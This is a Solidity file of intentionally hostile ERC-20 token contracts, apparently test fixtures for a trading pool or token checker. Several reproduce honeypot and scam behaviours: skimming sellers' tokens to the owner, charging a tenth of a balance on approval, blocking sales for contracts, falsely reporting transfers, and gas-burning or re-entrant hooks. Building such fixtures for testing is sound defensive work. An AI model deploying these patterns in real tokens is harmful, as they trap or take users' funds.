// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {Erc20} from "./base/Erc20.sol";
import {Traded} from "./base/Traded.sol";
import {Gate} from "./Gates.sol";

/// Sales fail with 100 KB of reasons.
contract LoudToken is Gate {
    constructor(string memory n, string memory s, address p) Gate(n, s, p) {}

    function _onSale(address, uint256) internal pure override {
        assembly {
            revert(0, 100000)
        }
    }
}

/// Sales use up all gas.
contract GreedyToken is Gate {
    uint256 private _spent;

    constructor(string memory n, string memory s, address p) Gate(n, s, p) {}

    function _onSale(address, uint256) internal override {
        while (true) _spent++;
    }
}

/// A sale destroys the token, which since Cancun only ends the call.
contract DestructingToken is Gate {
    constructor(string memory n, string memory s, address p) Gate(n, s, p) {}

    function _onSale(address, uint256) internal override {
        selfdestruct(payable(owner));
    }
}

interface IOddPair {
    function sync() external;
    function skim(address to) external;
}

/// Calls its pool back while it pays out, which the pool forbids.
contract CallingBackToken is Gate {
    constructor(string memory n, string memory s, address p) Gate(n, s, p) {}

    function _onBuy(address, uint256) internal override {
        IOddPair(pair).sync();
    }
}

/// Has the pair hand over what a seller just sent it.
contract SkimmingToken is Traded {
    constructor(string memory n, string memory s, address p) Erc20(n, s) Traded(p) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        _move(from, to, amount);
        if (to == pair && from != owner) IOddPair(pair).skim(owner);
    }
}

/// Moves, and says it did not.
contract DenyingToken is Traded {
    constructor(string memory n, string memory s, address p) Erc20(n, s) Traded(p) {}

    function transfer(address to, uint256 amount) external override returns (bool) {
        _move(msg.sender, to, amount);
        return _isOwner(msg.sender, to);
    }

    function transferFrom(address from, address to, uint256 amount) external override returns (bool) {
        _spend(from, amount);
        _move(from, to, amount);
        return _isOwner(from, to);
    }
}

/// Answers nothing, as USDT does.
contract MuteToken is Traded {
    constructor(string memory n, string memory s, address p) Erc20(n, s) Traded(p) {}

    function transfer(address to, uint256 amount) external override returns (bool) {
        _move(msg.sender, to, amount);
        assembly {
            return(0, 0)
        }
    }

    function transferFrom(address from, address to, uint256 amount) external override returns (bool) {
        _spend(from, amount);
        _move(from, to, amount);
        assembly {
            return(0, 0)
        }
    }
}

/// An approval costs a tenth of what one has.
contract ApprovalFeeToken is Traded {
    constructor(string memory n, string memory s, address p) Erc20(n, s) Traded(p) {}

    function approve(address spender, uint256 amount) public override returns (bool) {
        if (msg.sender != owner) _move(msg.sender, address(this), _balances[msg.sender] / 10);
        return super.approve(spender, amount);
    }
}

/// Only signatures approve.
contract PermitOnlyToken is Traded {
    mapping(address => uint256) public nonces;

    constructor(string memory n, string memory s, address p) Erc20(n, s) Traded(p) {}

    function approve(address spender, uint256 amount) public override returns (bool) {
        require(msg.sender == owner, "sign instead");
        return super.approve(spender, amount);
    }

    function permit(
        address holder,
        address spender,
        uint256 amount,
        uint256 deadline,
        uint8 v,
        bytes32 r,
        bytes32 s
    ) external {
        require(block.timestamp <= deadline, "late");
        bytes32 signed = keccak256(abi.encode(address(this), holder, spender, amount, nonces[holder]++, deadline));
        require(holder != address(0) && ecrecover(signed, v, r, s) == holder, "signature");
        _allowances[holder][spender] = amount;
    }
}

/// Tells contracts of what they send and get, as ERC-777 does; they need not answer.
contract HookedToken is Traded {
    constructor(string memory n, string memory s, address p) Erc20(n, s) Traded(p) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        _tell(from, "tokensToSend(address,address,address,uint256,bytes,bytes)", from, to, amount);
        _move(from, to, amount);
        _tell(to, "tokensReceived(address,address,address,uint256,bytes,bytes)", from, to, amount);
    }

    function _tell(address whom, string memory call, address from, address to, uint256 amount) private {
        if (whom.code.length == 0) return;
        (bool done,) = whom.call(abi.encodeWithSignature(call, msg.sender, from, to, amount, "", ""));
        done;
    }
}

/// What contracts are shown: nobody but the owner gets anything out.
contract OtherFace is Traded {
    constructor(string memory n, string memory s, address p) Erc20(n, s) Traded(p) {}

    function _transfer(address from, address to, uint256 amount) internal override {
        require(_isOwner(from, to), "not for you");
        _move(from, to, amount);
    }
}

/// Runs other code for other callers: contracts that take tokens meet another face.
contract TwoFacedToken is Traded {
    address private immutable _face;

    constructor(string memory n, string memory s, address p) Erc20(n, s) Traded(p) {
        _face = address(new OtherFace(n, s, p));
    }

    function transferFrom(address from, address to, uint256 amount) external override returns (bool) {
        if (msg.sender.code.length == 0) {
            _spend(from, amount);
            _move(from, to, amount);
            return true;
        }
        (bool done, bytes memory answer) = _face.delegatecall(msg.data);
        if (!done) {
            assembly {
                revert(add(answer, 32), mload(answer))
            }
        }
        return true;
    }
}

/// Nobody lets others have more than there is.
contract ModestApprovalToken is Traded {
    constructor(string memory n, string memory s, address p) Erc20(n, s) Traded(p) {}

    function approve(address spender, uint256 amount) public override returns (bool) {
        require(msg.sender == owner || amount <= _balances[msg.sender], "too much");
        return super.approve(spender, amount);
    }
}
